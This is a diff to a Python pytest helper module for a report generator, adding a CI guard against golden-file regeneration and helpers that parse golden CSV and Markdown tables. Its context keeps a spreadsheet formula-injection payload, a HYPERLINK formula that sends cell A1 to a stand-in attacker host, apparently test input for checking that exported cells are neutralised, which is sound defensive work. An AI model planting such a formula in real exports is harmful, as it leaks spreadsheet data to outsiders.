@@ -8,6 +8,7 @@ import os
 from pathlib import Path
 
 import pytest
+from _ci import under_ci
 
 GOLDEN = Path(__file__).parent / "data" / "reports"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1, "click")'
@@ -16,9 +17,12 @@ FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 def same_as_golden(name: str, text: str) -> None:
     """``text`` equals the golden file ``name`` (written instead when regenerating). In a CSV
-    file, numbers are compared to 1e-12: sums over items in another order differ in the last bit."""
+    file, numbers are compared to 1e-12: sums over items in another order differ in the last bit.
+    Regenerating under CI is refused: there it would turn every change of content into a pass."""
     path = GOLDEN / name
     if os.environ.get("DIFFGEN_REGEN_GOLDEN"):
+        if under_ci():
+            pytest.fail("DIFFGEN_REGEN_GOLDEN is set under CI: golden files are regenerated only by hand, for an intended change")
         path.parent.mkdir(parents=True, exist_ok=True)
         path.write_bytes(text.encode("utf-8"))
     golden = path.read_bytes().decode("utf-8")
@@ -54,3 +58,25 @@ def assert_no_formula(path: Path) -> None:
                 float(cell)
             except ValueError:
                 assert not cell.startswith(FORMULA_START), f"{path.name}: {cell!r}"
+
+
+def golden_csv(name: str) -> list[dict[str, str]]:
+    """The golden CSV file ``name`` as rows by header, text cells unescaped (a leading ' that
+    stops a formula removed): for the independent checks of its values."""
+    with open(GOLDEN / name, newline="", encoding="utf-8") as f:
+        return [{k: v[1:] if v.startswith("'") else v for k, v in row.items()} for row in csv.DictReader(f)]
+
+
+def markdown_tables(text: str) -> list[list[dict[str, str]]]:
+    """Every pipe table of a Markdown text, as rows by header (the separator row dropped)."""
+    tables: list[list[dict[str, str]]] = []
+    block: list[list[str]] = []
+    for line in [*text.splitlines(), ""]:
+        if line.startswith("|"):
+            block.append([c.strip() for c in line.strip().strip("|").split("|")])
+            continue
+        if block:
+            head, rows = block[0], block[2:]
+            tables.append([dict(zip(head, row, strict=True)) for row in rows])
+            block = []
+    return tables
